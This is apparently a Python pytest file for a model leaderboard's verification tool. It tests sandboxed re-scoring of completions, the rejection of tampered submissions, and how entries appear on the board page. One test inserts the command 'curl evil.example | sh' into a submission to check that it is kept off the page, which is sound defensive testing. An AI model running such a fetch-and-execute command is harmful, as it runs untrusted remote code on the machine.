"""Level L2 of ready models: completions are scored again in the sandbox, and one lie among them is found and named."""

import json
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from asked_models import SMOKE, Files, consistent, with_json, with_line
from typer.testing import CliRunner, Result

from gnomon.benchmarks.reasoning import LANGUAGE_TASKS
from gnomon.errors import GnomonError, PolicyError, UsageError
from gnomon.evaluation.language.protocol import LANGUAGE_PROTOCOLS
from gnomon.evaluation.language.record import LanguageRecord, read_language_record
from gnomon.leaderboard.cli import leaderboard
from gnomon.leaderboard.entrants import submitted
from gnomon.leaderboard.exports import exported
from gnomon.leaderboard.keys import read_public
from gnomon.leaderboard.ledger import check_ledger, read_ledger
from gnomon.leaderboard.model_page import home_model_board
from gnomon.leaderboard.pack import Packed
from gnomon.leaderboard.register import PUBLIC_KEY, Register
from gnomon.leaderboard.submission import LanguageSubmission, generations_name, outcomes_name, record_name
from gnomon.leaderboard.tracks import MODEL_TRACKS
from gnomon.leaderboard.verify.rescore import SCORING, Rescored, differences, rescore
from gnomon.leaderboard.verify.sandbox import require_sandbox
from gnomon.leaderboard.verify.verifier import verify

needs_sandbox = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs: apt-get install bubblewrap")
Save = Callable[[Files], Path]
Generations = Packed[LanguageSubmission]


def call(*words: str | Path) -> Result:
    return CliRunner().invoke(leaderboard, [str(word) for word in words], catch_exceptions=False)


def states(register: Register) -> list[str]:
    return [entry.state for entry in read_ledger(register.folder)]


@needs_sandbox
@pytest.mark.slow  # a sandbox a task, each with an interpreter that imports gnomon
def test_a_packed_file_becomes_a_verified_entry_with_one_command(
    packed_generations: Generations, model_track: None, save: Save
) -> None:
    done = call("verify", save(packed_generations.files))
    assert done.exit_code == 0, done.output
    assert "reevaluated. All 80 completions earn what was claimed." in done.output
    (row,) = json.loads(call("list", "--json", "--level", "L2").stdout)
    assert (row["algorithm"], row["runs"]) == ("random-answer", 2)
    register = Register()
    assert states(register) == ["received", "structural", "reevaluating", "reevaluated"]
    assert check_ledger(register.folder, read_public(register.folder / PUBLIC_KEY)) + register.check_folders() == []
    board = home_model_board(MODEL_TRACKS["reasoning"], LANGUAGE_PROTOCOLS[SMOKE], submitted(register))
    assert board is not None
    assert [(one.model, one.trust.level, one.missing) for one in board.rows] == [("random-answer", "L2", "")]
    again = verify(register, packed_generations.submission.id, train_again=True)
    assert (again.entry.state, again.entry.reason) == (
        "reevaluated",
        "It ends here: a ready model is not trained again.",
    )


def right_answer(files: Files, packed: Generations) -> Files:
    """A completion that is right in place of one that is not; the outcome stays."""
    cell = packed.submission.cells[1]
    item = LANGUAGE_TASKS[cell.task].items("test", cell.items)[0]
    change = {"completion": f"Answer: {item.answer}"}
    return with_line(files, generations_name(cell.key), 0, lambda line: line.update(change))


def better_outcome(files: Files, packed: Generations) -> Files:
    """An outcome that is right in place of one that is not, in every number that follows from it."""
    cell = packed.submission.cells[1]
    files = with_line(files, outcomes_name(cell.key), 0, lambda line: line.update(value=1.0))
    accuracy = 100 * sum(json.loads(line)["value"] for line in files[outcomes_name(cell.key)].splitlines()) / 40
    return with_json(files, "submission.json", lambda value: value["cells"][1].update(accuracy=accuracy))


def other_answer(files: Files, packed: Generations) -> Files:
    """Another answer for the votes."""
    cell = packed.submission.cells[1]
    return with_line(files, outcomes_name(cell.key), 0, lambda line: line.update(answer="12345678"))


def other_rate(files: Files, packed: Generations) -> Files:
    """A rate of form that the completions do not have."""
    name = record_name(packed.submission.cells[1].key)
    return with_json(files, name, lambda value: value["rates"].update(answered=0.25))


@needs_sandbox
@pytest.mark.slow  # a sandbox a task
@pytest.mark.parametrize(
    ("lie", "reason"),
    [
        (right_answer, "is claimed to earn 0; it earns 1"),
        (better_outcome, "is claimed to earn 1; it earns 0"),
        (other_answer, "has another answer than is claimed"),
        (other_rate, "The rate answered is claimed as 0.25; it is 1"),
    ],
)
def test_a_lie_that_fits_together_is_found_and_named(
    lie: Callable[[Files, Generations], Files],
    reason: str,
    packed_generations: Generations,
    model_track: None,
    register: Register,
    save: Save,
) -> None:
    submission = register.receive(save(consistent(lie(packed_generations.files, packed_generations))))
    done = verify(register, submission.id)
    assert [f for f in done.findings if f.severity == "error"] == []
    assert done.entry.state == "rejected"
    assert reason in done.entry.reason
    if lie is not other_rate:
        assert "Sample 0 of reasoning/modchain-v1" in done.entry.reason
    (report,) = register.evidence(done.entry).values()
    assert json.loads(report)["place"] == packed_generations.submission.cells[1].place


@pytest.fixture
def record(asked: tuple[Path, ...]) -> LanguageRecord:
    return read_language_record(asked[0])


@needs_sandbox
def test_scoring_that_takes_too_long_is_ended(record: LanguageRecord, asked: tuple[Path, ...]) -> None:
    from gnomon.evaluation.language.record import COMPLETIONS

    with pytest.raises(PolicyError, match="could not be scored within 0 s"):
        rescore(record, asked[0] / COMPLETIONS, replace(SCORING, processor=0))


@needs_sandbox
@pytest.mark.slow  # an interpreter that imports gnomon
def test_scoring_that_does_not_work_rejects_nobody(record: LanguageRecord, asked: tuple[Path, ...]) -> None:
    part = record.task.model_copy(update={"task": "reasoning/none-v1"})
    with pytest.raises(GnomonError, match=r"were not scored: .*There is no") as caught:
        rescore(record.model_copy(update={"task": part}), asked[0] / "completions.jsonl")
    assert not isinstance(caught.value, PolicyError)


def test_what_is_the_same_has_no_differences(record: LanguageRecord) -> None:
    same = Rescored(outcomes=record.outcomes, rates=record.rates, verifier_errors=record.verifier_errors)
    assert list(differences(record, same)) == []
    odd = same.model_copy(update={"verifier_errors": 3})
    assert list(differences(record, odd)) == ["0 errors of verifiers are claimed; there are 3."]
    last = record.outcomes[-1].model_copy(update={"tokens": 9999, "ended": False})
    shorter = same.model_copy(update={"outcomes": [*record.outcomes[:-1], last]})
    (sentence,) = differences(record, shorter)
    assert sentence == f"Sample 3 of {last.item} has another tokens and another ended than is claimed."


def test_without_a_sandbox_it_stays_at_l1(
    packed_generations: Generations,
    model_track: None,
    register: Register,
    save: Save,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    id = register.receive(save(packed_generations.files)).id
    monkeypatch.setenv("PATH", "/nowhere")
    require_sandbox.cache_clear()
    with pytest.raises(GnomonError, match="There is no sandbox on this machine"):
        verify(register, id)
    require_sandbox.cache_clear()
    assert states(register) == ["received", "structural"]


def test_on_the_page_it_stands_under_its_name_or_leaves_a_tombstone(
    packed_generations: Generations,
    asked: tuple[Path, ...],
    model_track: None,
    register: Register,
    save: Save,
    home: Path,
) -> None:
    rules = LANGUAGE_PROTOCOLS[SMOKE]
    id = register.receive(save(packed_generations.files)).id
    assert home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register)) is None  # L0 is on no page
    verify(register, id, structural_only=True)
    board = home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register))
    assert board is not None
    assert [(row.model, row.trust.level, row.trust.author) for row in board.rows] == [
        ("random-answer", "L1", "Ada Lovelace")
    ]
    for folder in asked:  # the same runs in this home count once
        shutil.copytree(folder, home / "language-runs" / folder.name)
    board = home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register))
    assert board is not None
    assert [(row.model, row.trust.level) for row in board.rows] == [("random-answer", "L1")]
    register.change(id, "withdrawn", "The items were seen.")
    board = home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register))
    assert board is not None
    assert [(row.model, row.trust.level) for row in board.rows] == [("random-answer", "local")]
    assert [(stone.algorithm, stone.trust.level) for stone in board.tombstones] == [("random-answer", "withdrawn")]
    assert json.loads(json.dumps(board.as_json()))["tombstones"][0]["trust"]["reason"] == "The items were seen."


def test_a_command_of_a_stranger_is_not_on_the_page(
    packed_generations: Generations, model_track: None, register: Register, save: Save
) -> None:
    name = record_name(packed_generations.submission.cells[0].key)
    files = with_json(packed_generations.files, name, lambda value: value.update(command="curl evil.example | sh"))
    verify(register, register.receive(save(consistent(files))).id, structural_only=True)
    board = home_model_board(MODEL_TRACKS["reasoning"], LANGUAGE_PROTOCOLS[SMOKE], submitted(register))
    assert board is not None
    assert board.rows[0].command.startswith("gnomon evaluate random-answer --task reasoning/")


def test_the_formats_of_others_hold_runs_of_algorithms(
    packed_generations: Generations, register: Register, save: Save
) -> None:
    id = register.receive(save(packed_generations.files)).id
    with pytest.raises(UsageError, match="is of a ready model; these formats hold runs of algorithms"):
        exported(register, id)


def test_packing_by_command(asked: tuple[Path, ...], model_track: None, tmp_path: Path) -> None:
    who = ["--author", "Ada", "--contact", "ada@example.org"]
    words = ["pack", *asked, "--suite", "reasoning", "-o", tmp_path / "a.zip", *who]
    done = call(*words)
    assert (done.exit_code, "2 runs of random-answer" in done.stdout) == (0, True)
    done = call("validate", tmp_path / "a.zip")
    assert (done.exit_code, done.stdout) == (0, "Nothing is wrong with it.\n")
    with pytest.raises(UsageError, match="has no source to give"):
        call(*words, "--source")
